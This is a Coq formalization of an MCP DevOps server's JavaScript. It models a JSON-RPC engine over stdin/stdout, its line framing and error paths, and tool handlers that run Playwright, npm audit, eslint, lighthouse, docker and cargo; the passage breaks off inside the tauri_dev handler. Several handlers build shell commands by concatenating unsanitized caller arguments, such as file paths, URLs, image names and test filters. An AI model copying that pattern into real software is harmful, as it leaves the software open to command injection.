(** * The MCP servers of mcp-devops-server: a model of the protocol engine

    Source files covered:
    - playwright-mcp/index.js        (class SimpleMCPServer: the hand-rolled
                                      JSON-RPC engine over stdin/stdout)
    - playwright-mcp-server/index.js (thirteen tool handlers registered with
                                      the MCP SDK)
    - playwright-mcp/test-client.js  (class MCPClient: the requests it
                                      builds and how it reads a response)

    playwright-mcp/index.js is an ES module: it starts with import
    declarations, and Node binds no [require] in such a module.  The host
    record keeps this as a field, so that what the handlers are written to
    do can be told apart from what the module does when it is run.

    JavaScript strings are sequences of UTF-16 code units; they are modelled
    as lists of [N].  Effects (console.error, spawn, process.stdout.write)
    are recorded in a trace; the behaviour of the spawned processes and of
    the file system is part of an explicit world that the code consumes. *)

From Stdlib Require Import Ascii String DecimalString DecimalZ.
From Stdlib Require Import List NArith ZArith Bool Lia FinFun.
Import ListNotations.

Set Implicit Arguments.

(** ** JavaScript strings *)

Module JSString.

Definition jsstring := list N.

(** A literal: one code unit per character of the (ASCII) literal. *)
Definition js (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).

Arguments js : simpl never.

(** A literal holding JSON text, written with apostrophes in place of the
    double quotes of the JSON text. *)
Definition jq (s : string) : jsstring :=
  map (fun c => if N.eqb c 39 then 34%N else c) (js s).

Definition nl : N := 10.

Fixpoint eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => N.eqb x y && eqb a' b'
  | _, _ => false
  end.

(** Truthiness of a string: the empty string is the only falsy one. *)
Definition truthy (s : jsstring) : bool :=
  match s with [] => false | _ :: _ => true end.

(** [a || b] on strings. *)
Definition or_else (a b : jsstring) : jsstring :=
  if truthy a then a else b.

(** ECMAScript WhiteSpace and LineTerminator code points, the characters
    String.prototype.trim removes.  All of them lie in the basic plane, so
    the test on code units is exact. *)
Definition is_white (c : N) : bool :=
  (N.eqb c 9 || N.eqb c 10 || N.eqb c 11 || N.eqb c 12 || N.eqb c 13
   || N.eqb c 32 || N.eqb c 160 || N.eqb c 5760
   || (N.leb 8192 c && N.leb c 8202)
   || N.eqb c 8232 || N.eqb c 8233 || N.eqb c 8239 || N.eqb c 8287
   || N.eqb c 12288 || N.eqb c 65279)%bool.

Fixpoint trim_start (s : jsstring) : jsstring :=
  match s with
  | c :: r => if is_white c then trim_start r else s
  | [] => []
  end.

(** String.prototype.trim *)
Definition trim (s : jsstring) : jsstring :=
  rev (trim_start (rev (trim_start s))).

(** [s.split("\n")]: the pieces between line feeds; the empty string gives
    one empty piece. *)
Fixpoint split_nl (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: r =>
      if N.eqb c nl then [] :: split_nl r
      else match split_nl r with
           | h :: t => (c :: h) :: t
           | [] => [[c]]
           end
  end.

(** [xs.join(" ")] *)
Fixpoint join_sp (xs : list jsstring) : jsstring :=
  match xs with
  | [] => []
  | [x] => x
  | x :: r => x ++ 32%N :: join_sp r
  end.

(** No string occurs twice in the list. *)
Fixpoint distinct (l : list jsstring) : bool :=
  match l with
  | [] => true
  | x :: r => negb (existsb (eqb x) r) && distinct r
  end.

(** Number-to-string conversion of an integer, as a template literal
    performs it. *)
Definition of_Z (z : Z) : jsstring :=
  js (NilZero.string_of_int (Z.to_int z)).

End JSString.

Import JSString.

(** ** The message framer of [start]

    The data handler of [start] splits each chunk on its own:
<<
      const lines = data.toString().split("\n");
      for (const line of lines) { if (line.trim()) { ... } }
>>
    [units] is the sequence of lines that pass the [line.trim()] test, in
    order; [feed] is what a sequence of data events hands to the
    dispatcher. *)

Definition non_blank (line : jsstring) : bool := truthy (trim line).

Definition units (data : jsstring) : list jsstring :=
  filter non_blank (split_nl data).


(** A complete message: a non-blank line without a line feed in it. *)
Definition complete_message (m : jsstring) : bool :=
  negb (existsb (N.eqb nl) m) && non_blank m.


(** The last line of a chunk, what follows its last line feed, and the
    first line of a chunk, what precedes its first line feed. *)
Definition last_line (data : jsstring) : jsstring :=
  last (split_nl data) [].

Definition first_line (data : jsstring) : jsstring :=
  hd [] (split_nl data).


(** ** JavaScript values, errors and outcomes *)

(** The values [JSON.parse] can return, and [undefined].  A number is kept
    as a literal that denotes it: the servers never compute with numbers,
    they only pass a request's [id] on. *)
#[warnings="-register-all"]
Inductive JSValue : Type :=
| JUndefined
| JNull
| JBool (b : bool)
| JNumber (literal : jsstring)
| JString (s : jsstring)
| JArray (items : list JSValue)
| JObject (fields : list (jsstring * JSValue)).

Inductive ErrorKind := Error | SyntaxError | TypeError | ReferenceError.

(** An error object: its constructor and its [message]. *)
Record JSError := mkError { kind : ErrorKind; message : jsstring }.

(** How the evaluation of an expression, an awaited promise included, ends:
    with a value, with an exception (a rejected promise), or never (a
    promise that is never settled). *)
Inductive Outcome (A : Type) : Type :=
| Returned (a : A)
| Thrown (e : JSError)
| Pending.

Arguments Returned {A} a.
Arguments Thrown {A} e.
Arguments Pending {A}.

(** Own property lookup in an object built by [JSON.parse]. *)
Fixpoint own_property (k : jsstring) (fields : list (jsstring * JSValue))
  : option JSValue :=
  match fields with
  | [] => None
  | (k', v) :: r => if JSString.eqb k k' then Some v else own_property k r
  end.

Definition nullish (v : JSValue) : bool :=
  match v with JUndefined | JNull => true | _ => false end.

(** [v === "literal"] *)
Definition strict_equals_string (v : JSValue) (lit : jsstring) : bool :=
  match v with JString s => JSString.eqb s lit | _ => false end.

(** ** The objects of the protocol *)

(** Tool descriptors of SimpleMCPServer, as the constructor writes them. *)
Record InputSchema := {
  schema_type : jsstring;
  properties : list (jsstring * JSValue);
  required : list jsstring
}.

Record ToolDescriptor := {
  name : jsstring;
  description : jsstring;
  inputSchema : InputSchema
}.

(** Tool Result Payload: [{content: [{type, text}], isError?}]. *)
Record ContentBlock := { type : jsstring; text : jsstring }.

Record ToolResult := {
  content : list ContentBlock;
  isError : option bool       (* [None]: the property is absent *)
}.

Record InitializeResult := {
  protocolVersion : jsstring;
  capabilities : list (jsstring * JSValue);
  serverInfo_name : jsstring;
  serverInfo_version : jsstring
}.

(** The [result] or [error] member of a response. *)
Inductive ResponseBody :=
| result_initialize (r : InitializeResult)
| result_tools (tools : list ToolDescriptor)
| result_call (r : ToolResult)
| error_object (code : Z) (message : jsstring).

Record Response := {
  jsonrpc : jsstring;
  id : JSValue;               (* [JUndefined]: JSON.stringify omits it *)
  body : ResponseBody
}.

(** ** The host: built-ins whose behaviour the servers take as given *)

Record Host := {
  (** [JSON.parse(text)]: the value, or the message of the SyntaxError. *)
  JSON_parse : jsstring -> JSValue + jsstring;
  (** [JSON.stringify(response)] *)
  JSON_stringify : Response -> jsstring;
  (** Number-to-string conversion of the number a literal denotes. *)
  Number_toString : jsstring -> jsstring;
  (** Whether the module system binds [require] in the module's scope
      (CommonJS wrappers do, ES modules do not). *)
  module_require : bool;
  (** Message of the ReferenceError for an unresolvable identifier. *)
  reference_error_message : jsstring -> jsstring;
  (** Message of the TypeError for reading a property of null/undefined. *)
  type_error_message : jsstring -> jsstring;
  (** Message of the TypeError for an object that has no primitive value. *)
  to_primitive_error_message : jsstring
}.

(** ToString, as a template literal applies it to an interpolated value.
    A primitive is converted as it is.  An object goes through ToPrimitive
    with the hint string, which calls its [toString] and then its [valueOf]
    when they are functions.  For an object made by JSON.parse that is
    Object.prototype.toString, which gives [[object Object]], unless the
    object has a member [toString] of its own: no JSON value is a function,
    so that member is skipped, [valueOf] (its own member, or
    Object.prototype.valueOf, which returns the object) gives no primitive
    either, and the conversion throws a TypeError.  An array has no named
    member of its own, so Array.prototype.toString joins its elements with
    commas, null and undefined as the empty string, the others converted in
    turn, from left to right.  The result is the string, or the error
    thrown. *)
Fixpoint ToString (h : Host) (v : JSValue) : jsstring + JSError :=
  match v with
  | JUndefined => inl (js "undefined")
  | JNull => inl (js "null")
  | JBool true => inl (js "true")
  | JBool false => inl (js "false")
  | JNumber lit => inl (Number_toString h lit)
  | JString s => inl s
  | JArray items =>
      (fix join (l : list JSValue) : jsstring + JSError :=
         match l with
         | [] => inl []
         | x :: r =>
             match (if nullish x then inl [] else ToString h x) with
             | inl s =>
                 match r with
                 | [] => inl s
                 | _ :: _ =>
                     match join r with
                     | inl t => inl (s ++ 44%N :: t)
                     | inr e => inr e
                     end
                 end
             | inr e => inr e
             end
         end) items
  | JObject fields =>
      match own_property (js "toString") fields with
      | None => inl (js "[object Object]")
      | Some _ => inr (mkError TypeError (to_primitive_error_message h))
      end
  end.

(** [v.k] for the property names the dispatcher reads ([method], [id],
    [params], [name], [arguments]): none of them is defined on a built-in
    prototype, so only a JSON object can hold one, and reading from null or
    undefined throws a TypeError. *)
Definition Get (h : Host) (v : JSValue) (k : jsstring) : Outcome JSValue :=
  match v with
  | JUndefined | JNull => Thrown (mkError TypeError (type_error_message h k))
  | JObject fields =>
      match own_property k fields with
      | Some x => Returned x
      | None => Returned JUndefined
      end
  | _ => Returned JUndefined
  end.

(** ** Identifier resolution

    What an identifier is bound to in a scope chain: a value the model can
    express, or some other object (a function, a class, an Error, the server
    instance). *)
Inductive Binding :=
| BValue (v : JSValue)
| BOpaque.

Definition Scope := list (jsstring * Binding).

Fixpoint lookup_binding (x : jsstring) (sc : Scope) : option Binding :=
  match sc with
  | [] => None
  | (y, b) :: r => if JSString.eqb x y then Some b else lookup_binding x r
  end.

(** Evaluating an identifier: a ReferenceError when no scope of the chain
    declares it. *)
Definition ResolveIdentifier (h : Host) (sc : Scope) (x : jsstring)
  : Outcome Binding :=
  match lookup_binding x sc with
  | Some b => Returned b
  | None => Thrown (mkError ReferenceError (reference_error_message h x))
  end.

(** [b?.id]: none of the opaque objects in scope has an [id] property. *)
Definition optional_id (b : Binding) : JSValue :=
  match b with
  | BValue (JObject fields) =>
      match own_property (js "id") fields with
      | Some x => x
      | None => JUndefined
      end
  | _ => JUndefined
  end.

(** ** The world: environment, file system and child processes *)

(** What a spawned child reports, in the order of its events.  The text of
    a data event is [data.toString()] of the Buffer the stream delivers:
    the streams of the child are given no encoding, so every Buffer is
    decoded on its own, and a character whose bytes are cut by two Buffers
    reaches the handlers as replacement characters. *)
Inductive ChildEvent :=
| stdout_data (data : jsstring)
| stderr_data (data : jsstring)
| close (code : option Z)       (* [None]: null, killed by a signal *)
| child_error (message : jsstring).

Record World := {
  env_PROJECT_DIR : option jsstring;
  process_cwd : jsstring;
  fs_existsSync : jsstring -> bool;
  fs_isDirectory : jsstring -> bool;   (* fs.statSync(p).isDirectory() *)
  (** The behaviour of the processes still to be spawned, first one first;
      a process spawned beyond the list never reports anything. *)
  children : list (list ChildEvent)
}.

(** Observable actions.  [call_processMessage] records the call
    [this.processMessage(line)] of the data handler, so that the order of
    dispatch and output can be stated. *)
Inductive Event :=
| console_error (text : jsstring)
| spawn (command : jsstring) (args : list jsstring) (cwd : jsstring)
| stdout_write (text : jsstring)
| call_processMessage (line : jsstring).

(** The world once the next child has been spawned. *)
Definition after_spawn (w : World) : World :=
  {| env_PROJECT_DIR := env_PROJECT_DIR w;
     process_cwd := process_cwd w;
     fs_existsSync := fs_existsSync w;
     fs_isDirectory := fs_isDirectory w;
     children := tl (children w) |}.

(** The actions hidden inside a call of [processMessage]: neither a
    dispatch nor a write to standard output. *)
Definition quiet_event (e : Event) : Prop :=
  match e with
  | console_error _ | spawn _ _ _ => True
  | stdout_write _ | call_processMessage _ => False
  end.

(** The number of dispatches and the number of responses written in a
    trace. *)
Fixpoint dispatches (tr : list Event) : nat :=
  match tr with
  | [] => 0
  | call_processMessage _ :: r => S (dispatches r)
  | _ :: r => dispatches r
  end.

Fixpoint writes (tr : list Event) : nat :=
  match tr with
  | [] => 0
  | stdout_write _ :: r => S (writes r)
  | _ :: r => writes r
  end.

(** The data events of a child and what they accumulate. *)
Definition is_data (e : ChildEvent) : bool :=
  match e with
  | stdout_data _ | stderr_data _ => true
  | close _ | child_error _ => false
  end.

Fixpoint stdout_of (events : list ChildEvent) : jsstring :=
  match events with
  | [] => []
  | stdout_data d :: r => d ++ stdout_of r
  | _ :: r => stdout_of r
  end.

Fixpoint stderr_of (events : list ChildEvent) : jsstring :=
  match events with
  | [] => []
  | stderr_data d :: r => d ++ stderr_of r
  | _ :: r => stderr_of r
  end.

(** ** The monad of the server's code: trace, world, outcome *)

#[projections(primitive)]
Record Run (A : Type) := mkRun {
  trace : list Event;
  world : World;
  outcome : Outcome A
}.

Definition M (A : Type) := World -> Run A.

Definition ret {A} (a : A) : M A := fun w => mkRun [] w (Returned a).

Definition throw {A} (e : JSError) : M A := fun w => mkRun [] w (Thrown e).

Definition lift {A} (o : Outcome A) : M A := fun w => mkRun [] w o.

Definition bind {A B} (m : M A) (f : A -> M B) : M B :=
  fun w =>
    let r := m w in
    match outcome r with
    | Returned a =>
        let r' := f a (world r) in
        mkRun (trace r ++ trace r') (world r') (outcome r')
    | Thrown e => mkRun (trace r) (world r) (Thrown e)
    | Pending => mkRun (trace r) (world r) Pending
    end.

(** [try { m } catch (error) { handler error }] *)
Definition try_catch {A} (m : M A) (handler : JSError -> M A) : M A :=
  fun w =>
    let r := m w in
    match outcome r with
    | Thrown e =>
        let r' := handler e (world r) in
        mkRun (trace r ++ trace r') (world r') (outcome r')
    | _ => r
    end.

Definition emit (e : Event) : M unit := fun w => mkRun [e] w (Returned tt).

Definition get_world : M World := fun w => mkRun [] w (Returned w).

(** A computation none of whose actions is a dispatch or a write to
    standard output. *)
Definition Quiet {A} (m : M A) : Prop :=
  forall w, Forall quiet_event (trace (m w)).

Notation "x <- c1 ;; c2" := (bind c1 (fun x => c2))
  (at level 61, c1 at next level, right associativity).
Notation "c1 ;; c2" := (bind c1 (fun _ => c2))
  (at level 61, right associativity).

(** ** playwright-mcp/index.js: class SimpleMCPServer *)

Module SimpleMCPServer.

Section WithHost.

Variable host : Host.

Definition empty_schema : InputSchema :=
  {| schema_type := js "object"; properties := []; required := [] |}.

(** [this.tools], as the constructor fills it. *)
Definition tools : list ToolDescriptor :=
  [ {| name := js "run_ui_tests";
       description := js "Run all Playwright UI tests with list reporter";
       inputSchema := empty_schema |};
    {| name := js "run_accessibility_tests";
       description := js "Run only accessibility tests with JSON reporter";
       inputSchema := empty_schema |} ].

(** [validateProjectDir(projectDir)] *)
Definition validateProjectDir (projectDir : jsstring) : M unit :=
  (* const fs = require("fs"); *)
  (if module_require host then ret tt
   else throw (mkError ReferenceError
                 (reference_error_message host (js "require")))) ;;
  w <- get_world ;;
  if negb (fs_existsSync w projectDir) then
    throw (mkError Error
             (js "Project directory does not exist: " ++ projectDir))
  else if negb (fs_isDirectory w projectDir) then
    throw (mkError Error (js "Path is not a directory: " ++ projectDir))
  else ret tt.

(** The [options] argument of [runPlaywrightTests]. *)
Record Options := {
  reporter : option jsstring;
  testMatch : option jsstring
}.

(** Truthiness of an optional string property. *)
Definition present (o : option jsstring) : bool :=
  match o with Some s => truthy s | None => false end.

Definition value_of (o : option jsstring) : jsstring :=
  match o with Some s => s | None => [] end.

(** The promise executor's handlers, run over the child's events:
    [output] and [errorOutput] accumulate the data events, the first
    [close] or [error] event settles the promise. *)
Fixpoint child_promise (events : list ChildEvent)
    (output errorOutput : jsstring) : Outcome jsstring :=
  match events with
  | [] => Pending
  | stdout_data data :: rest =>
      child_promise rest (output ++ data) errorOutput
  | stderr_data data :: rest =>
      child_promise rest output (errorOutput ++ data)
  | close code :: _ =>
      match code with
      | Some 0%Z =>
          Returned (or_else output (js "Tests completed successfully"))
      | _ =>
          Thrown (mkError Error
            (js "Playwright tests failed with code "
             ++ match code with Some c => of_Z c | None => js "null" end
             ++ js ":" ++ [nl] ++ or_else errorOutput output))
      end
  | child_error msg :: _ =>
      Thrown (mkError Error (js "Failed to run Playwright tests: " ++ msg))
  end.

(** [spawn(command, args, {cwd, stdio, shell: true})]: the next child of
    the world. *)
Definition spawn_child (command : jsstring) (args : list jsstring)
    (cwd : jsstring) : M (list ChildEvent) :=
  fun w =>
    mkRun [spawn command args cwd] (after_spawn w)
      (Returned (hd [] (children w))).

(** The array [args] the promise executor builds: [test], then the
    reporter option, then the test pattern. *)
Definition playwright_args (options : Options) : list jsstring :=
  [js "test"]
  ++ (if present (reporter options)
      then [js "--reporter"; value_of (reporter options)] else [])
  ++ (if present (testMatch options)
      then [value_of (testMatch options)] else []).

(** [runPlaywrightTests(projectDir, options)]; the result is the [output]
    property of the object the promise is resolved with. *)
Definition runPlaywrightTests (projectDir : jsstring) (options : Options)
  : M jsstring :=
  validateProjectDir projectDir ;;
  let args := playwright_args options in
  emit (console_error (js "Running: npx playwright " ++ join_sp args
                       ++ js " in " ++ projectDir)) ;;
  child <- spawn_child (js "npx") (js "playwright" :: args) projectDir ;;
  lift (child_promise child [] []).

(** [process.env.PROJECT_DIR || process.cwd()] *)
Definition project_dir (w : World) : jsstring :=
  if present (env_PROJECT_DIR w) then value_of (env_PROJECT_DIR w)
  else process_cwd w.

Definition text_block (s : jsstring) : ContentBlock :=
  {| type := js "text"; text := s |}.

(** [handleToolCall(name, args)] *)
Definition handleToolCall (name args : JSValue) : M ToolResult :=
  if strict_equals_string name (js "run_ui_tests") then
    try_catch
      (emit (console_error (js "Running UI tests...")) ;;
       w <- get_world ;;
       output <- runPlaywrightTests (project_dir w)
                   {| reporter := Some (js "list");
                      testMatch := Some (js "tests/ui.spec.ts") |} ;;
       ret {| content :=
                [text_block (js "UI Tests completed!" ++ [nl; nl] ++ output)];
              isError := None |})
      (fun error =>
         ret {| content :=
                  [text_block (js "Error running UI tests: "
                               ++ message error)];
                isError := Some true |})
  else if strict_equals_string name (js "run_accessibility_tests") then
    try_catch
      (emit (console_error (js "Running accessibility tests...")) ;;
       w <- get_world ;;
       output <- runPlaywrightTests (project_dir w)
                   {| reporter := Some (js "json");
                      testMatch := Some (js "tests/accessibility.spec.ts") |} ;;
       ret {| content :=
                [text_block (js "Accessibility Tests completed!" ++ [nl; nl]
                             ++ output)];
              isError := None |})
      (fun error =>
         ret {| content :=
                  [text_block (js "Error running accessibility tests: "
                               ++ message error)];
                isError := Some true |})
  else
    match ToString host name with
    | inl shown => throw (mkError Error (js "Unknown tool: " ++ shown))
    | inr error => throw error
    end.

(** The bindings visible in the catch clause of [processMessage]: the catch
    parameter, the function's parameter and its [arguments] object, the
    module's imports and declarations, and the globals the module uses.
    The constants [parsed] and [result] are declared in the block of the
    [try] and are not in scope in the catch clause. *)
Definition catch_scope (message : jsstring) : Scope :=
  [ (js "error", BOpaque);
    (js "message", BValue (JString message));
    (js "arguments", BOpaque);
    (js "spawn", BOpaque);
    (js "readFileSync", BOpaque);
    (js "SimpleMCPServer", BOpaque);
    (js "server", BOpaque);
    (js "process", BOpaque);
    (js "console", BOpaque);
    (js "JSON", BOpaque);
    (js "Promise", BOpaque);
    (js "Error", BOpaque) ].

(** The catch clause of [processMessage]. *)
Definition processMessage_catch (message : jsstring) (error : JSError)
  : M Response :=
  parsed <- lift (ResolveIdentifier host (catch_scope message) (js "parsed")) ;;
  ret {| jsonrpc := js "2.0";
         id := optional_id parsed;
         body := error_object (-32700) (js "Parse error") |}.

(** The block of the [try] of [processMessage]. *)
Definition processMessage_try (message : jsstring) : M Response :=
  parsed <- lift (match JSON_parse host message with
                  | inl v => Returned v
                  | inr msg => Thrown (mkError SyntaxError msg)
                  end) ;;
  method <- lift (Get host parsed (js "method")) ;;
  if strict_equals_string method (js "initialize") then
    id <- lift (Get host parsed (js "id")) ;;
    ret {| jsonrpc := js "2.0";
           id := id;
           body := result_initialize
             {| protocolVersion := js "2024-11-05";
                capabilities := [(js "tools", JObject [])];
                serverInfo_name := js "playwright-mcp-server";
                serverInfo_version := js "1.0.0" |} |}
  else
  method <- lift (Get host parsed (js "method")) ;;
  if strict_equals_string method (js "tools/list") then
    id <- lift (Get host parsed (js "id")) ;;
    ret {| jsonrpc := js "2.0";
           id := id;
           body := result_tools tools |}
  else
  method <- lift (Get host parsed (js "method")) ;;
  if strict_equals_string method (js "tools/call") then
    params <- lift (Get host parsed (js "params")) ;;
    name <- lift (Get host params (js "name")) ;;
    params' <- lift (Get host parsed (js "params")) ;;
    arguments <- lift (Get host params' (js "arguments")) ;;
    result <- handleToolCall name arguments ;;
    id <- lift (Get host parsed (js "id")) ;;
    ret {| jsonrpc := js "2.0";
           id := id;
           body := result_call result |}
  else
    id <- lift (Get host parsed (js "id")) ;;
    ret {| jsonrpc := js "2.0";
           id := id;
           body := error_object (-32601) (js "Method not found") |}.

(** [processMessage(message)] *)
Definition processMessage (message : jsstring) : M Response :=
  try_catch (processMessage_try message) (processMessage_catch message).

(** The body of the loop of the data handler of [start], over the lines of
    one chunk.  A response is an object, hence truthy: the test
    [if (response)] always passes. *)
Fixpoint for_lines (lines : list jsstring) : M unit :=
  match lines with
  | [] => ret tt
  | line :: rest =>
      (if truthy (trim line) then
         emit (call_processMessage line) ;;
         response <- processMessage line ;;
         emit (stdout_write (JSON_stringify host response ++ [nl]))
       else ret tt) ;;
      for_lines rest
  end.

(** The data handler of [start]: [process.stdin.on("data", async (data) =>
    ...)].  An exception that leaves it is an unhandled promise
    rejection. *)
Definition on_data (data : jsstring) : M unit :=
  for_lines (split_nl data).

(** *** Vocabulary for the statements about the server *)

(** [v.k] when the read does not throw. *)
Definition member (v : JSValue) (k : jsstring) : JSValue :=
  match Get host v k with
  | Returned x => x
  | _ => JUndefined
  end.

(** [parsed.method === lit] *)
Definition method_is (parsed : JSValue) (lit : jsstring) : bool :=
  strict_equals_string (member parsed (js "method")) lit.

(** The [name] and [arguments] of a tools/call request whose [params] can
    be read. *)
Definition call_of (parsed : JSValue) : option (JSValue * JSValue) :=
  if method_is parsed (js "tools/call") then
    match Get host parsed (js "params") with
    | Returned params =>
        match Get host params (js "name"),
              Get host params (js "arguments") with
        | Returned n, Returned a => Some (n, a)
        | _, _ => None
        end
    | _ => None
    end
  else None.

(** The names in [this.tools]. *)
Definition tool_names : list jsstring := map name tools.

(** [name] is the name of a descriptor of [this.tools]. *)
Definition names_tool (name : JSValue) : bool :=
  existsb (strict_equals_string name) tool_names.

(** [validateProjectDir] lets the project directory of [w] pass. *)
Definition can_launch (w : World) : bool :=
  module_require host
  && fs_existsSync w (project_dir w)
  && fs_isDirectory w (project_dir w).

(** The first line of a tool's success text, and the start of its failure
    text. *)
Definition completed_banner (tool : jsstring) : jsstring :=
  if JSString.eqb tool (js "run_ui_tests") then js "UI Tests completed!"
  else js "Accessibility Tests completed!".

Definition failure_prefix (tool : jsstring) : jsstring :=
  if JSString.eqb tool (js "run_ui_tests")
  then js "Error running UI tests: "
  else js "Error running accessibility tests: ".

(** The data handler treats the lines of a chunk one after the other.  A
    line that does not pass the test contributes nothing.  For a line that
    passes, the call of [processMessage] is followed by nothing but the
    hidden actions of that call (diagnostics, the spawn) and then by the
    write of its response, before the next line is looked at; a call that
    does not return a response ends the handler. *)
Inductive Sequential : World -> list jsstring -> list Event -> Prop :=
| seq_done w :
    Sequential w [] []
| seq_blank w line rest tr :
    truthy (trim line) = false ->
    Sequential w rest tr ->
    Sequential w (line :: rest) tr
| seq_answered w line rest r tr :
    truthy (trim line) = true ->
    outcome (processMessage line w) = Returned r ->
    Forall quiet_event (trace (processMessage line w)) ->
    Sequential (world (processMessage line w)) rest tr ->
    Sequential w (line :: rest)
      (call_processMessage line :: trace (processMessage line w)
       ++ stdout_write (JSON_stringify host r ++ [nl]) :: tr)
| seq_unanswered w line rest :
    truthy (trim line) = true ->
    (forall r, outcome (processMessage line w) <> Returned r) ->
    Forall quiet_event (trace (processMessage line w)) ->
    Sequential w (line :: rest)
      (call_processMessage line :: trace (processMessage line w)).

End WithHost.

End SimpleMCPServer.

(** ** playwright-mcp-server/index.js: the handlers given to registerTool *)

Module PlaywrightMcpServer.

(** [err.code] of the error [exec] passes to its callback: the exit status
    of the command, a system error name, or null (killed by a signal). *)
Inductive ErrorCode :=
| code_number (n : Z)
| code_string (s : jsstring)
| code_null.

(** The arguments of the callback of [exec]: [(err, stdout, stderr)], with
    [err] null when the command exits with status 0. *)
Record ExecCallback := {
  err : option ErrorCode;
  stdout : jsstring;
  stderr : jsstring
}.

(** How the promise a handler returns is settled. *)
Inductive Settled :=
| resolve (r : ToolResult)
| reject (r : ToolResult).

(** A handler either settles at once or runs one command and settles in
    the callback of [exec]. *)
Inductive Handler :=
| settle (s : Settled)
| exec (command : jsstring) (callback : ExecCallback -> Settled).

(** The argument object of a call; its values are strings, as the input
    schemas declare them. *)
Definition Args := list (jsstring * jsstring).

Fixpoint arg (args : Args) (k : jsstring) : option jsstring :=
  match args with
  | [] => None
  | (k', v) :: r => if JSString.eqb k k' then Some v else arg r k
  end.

(** [args.k || fallback] *)
Definition arg_or (args : Args) (k : jsstring) (fallback : jsstring)
  : jsstring :=
  match arg args k with
  | Some v => or_else v fallback
  | None => fallback
  end.

(** [args.k] used as a condition. *)
Definition arg_truthy (args : Args) (k : jsstring) : bool :=
  match arg args k with Some v => truthy v | None => false end.

Definition text_result (s : jsstring) : ToolResult :=
  {| content := [ {| type := js "text"; text := s |} ]; isError := None |}.

Definition is_err (cb : ExecCallback) : bool :=
  match err cb with Some _ => true | None => false end.

(** [err && err.code !== 1] *)
Definition err_other_than_1 (cb : ExecCallback) : bool :=
  match err cb with
  | Some (code_number 1%Z) => false
  | Some _ => true
  | None => false
  end.

Record ParamSchema := {
  param_type : jsstring;
  param_description : jsstring;
  param_enum : option (list jsstring)
}.

Definition string_param (d : string) : ParamSchema :=
  {| param_type := js "string"; param_description := js d;
     param_enum := None |}.

(** One call of [server.registerTool(name, {description, inputSchema},
    handler)]. *)
Record Registration := {
  tool_name : jsstring;
  tool_description : jsstring;
  tool_inputSchema : list (jsstring * ParamSchema);
  tool_handler : Args -> Handler
}.

Definition run_ui_tests (_ : Args) : Handler :=
  exec (js "npx playwright test --reporter=list")
    (fun cb =>
       if is_err cb then reject (text_result (js "Error: " ++ stderr cb))
       else resolve (text_result (stdout cb))).

Definition run_accessibility_test (_ : Args) : Handler :=
  exec (js "npx playwright test tests/accessibility.spec.ts --reporter=json")
    (fun cb =>
       if is_err cb then reject (text_result (js "Error: " ++ stderr cb))
       else resolve (text_result (stdout cb))).

Definition security_audit (_ : Args) : Handler :=
  exec (js "npm audit --audit-level=moderate --json")
    (fun cb =>
       if err_other_than_1 cb
       then reject (text_result (js "Audit failed: " ++ stderr cb))
       else resolve (text_result
              (or_else (stdout cb) (js "No security vulnerabilities found")))).

Definition github_workflow_validate (args : Args) : Handler :=
  let workflowPath :=
    arg_or args (js "workflow_file") (js ".github/workflows/*.yml") in
  exec (js "npx js-yaml " ++ workflowPath)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Workflow validation failed: " ++ stderr cb))
       else resolve (text_result
              (js "Workflow validation successful:" ++ [nl] ++ stdout cb))).

Definition code_quality_check (args : Args) : Handler :=
  let files := arg_or args (js "files") (js "src/**/*.js") in
  exec (js "npx eslint " ++ files ++ js " --format=json")
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "ESLint found issues:" ++ [nl] ++ stdout cb))
       else resolve (text_result
              (js "Code quality check passed - no issues found"))).

Definition performance_test (args : Args) : Handler :=
  if negb (arg_truthy args (js "url")) then
    settle (reject (text_result
              (js "URL is required for performance testing")))
  else
    let format := arg_or args (js "output") (js "json") in
    exec (js "npx lighthouse " ++ arg_or args (js "url") []
          ++ js " --output=" ++ format
          ++ js " --output-path=./lighthouse-report." ++ format)
      (fun cb =>
         if is_err cb
         then reject (text_result
                (js "Performance test failed: " ++ stderr cb))
         else resolve (text_result
                (js "Performance test completed:" ++ [nl] ++ stdout cb))).

Definition docker_build_test (args : Args) : Handler :=
  let dockerfile := arg_or args (js "dockerfile") (js "./Dockerfile") in
  let imageName := arg_or args (js "image_name") (js "test-image") in
  exec (js "docker build -f " ++ dockerfile ++ js " -t " ++ imageName
        ++ js " .")
    (fun cb =>
       if is_err cb
       then reject (text_result (js "Docker build failed: " ++ stderr cb))
       else resolve (text_result
              (js "Docker build successful:" ++ [nl] ++ stdout cb))).

Definition rust_check (args : Args) : Handler :=
  let manifestPath := arg_or args (js "manifest_path") (js "./Cargo.toml") in
  exec (js "cargo check --manifest-path " ++ manifestPath)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Rust check failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result
              (js "Rust check passed:" ++ [nl] ++ stdout cb))).

Definition rust_test (args : Args) : Handler :=
  let manifestPath := arg_or args (js "manifest_path") (js "./Cargo.toml") in
  let testFilter :=
    if arg_truthy args (js "test_name")
    then js "--test " ++ arg_or args (js "test_name") []
    else [] in
  exec (js "cargo test --manifest-path " ++ manifestPath ++ js " "
        ++ testFilter)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Rust tests failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result
              (js "Rust tests passed:" ++ [nl] ++ stdout cb))).

Definition rust_fmt_check (args : Args) : Handler :=
  let manifestPath := arg_or args (js "manifest_path") (js "./Cargo.toml") in
  exec (js "cargo fmt --manifest-path " ++ manifestPath ++ js " --check")
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Rust formatting check failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result (js "Rust code is properly formatted"))).

Definition tauri_build (args : Args) : Handler :=
  let configPath :=
    arg_or args (js "config_path") (js "./src-tauri/tauri.conf.json") in
  let target :=
    if arg_truthy args (js "target")
    then js "--target " ++ arg_or args (js "target") []
    else [] in
  exec (js "npx tauri build --config " ++ configPath ++ js " " ++ target)
    (fun cb =>
       if is_err cb
       then reject (text_result
              (js "Tauri build failed:" ++ [nl] ++ stderr cb))
       else resolve (text_result
              (js "Tauri build successful:" ++ [nl] ++ stdout cb))).

Definition tauri_dev (args : Args) : Handler :=
  let configPath :=
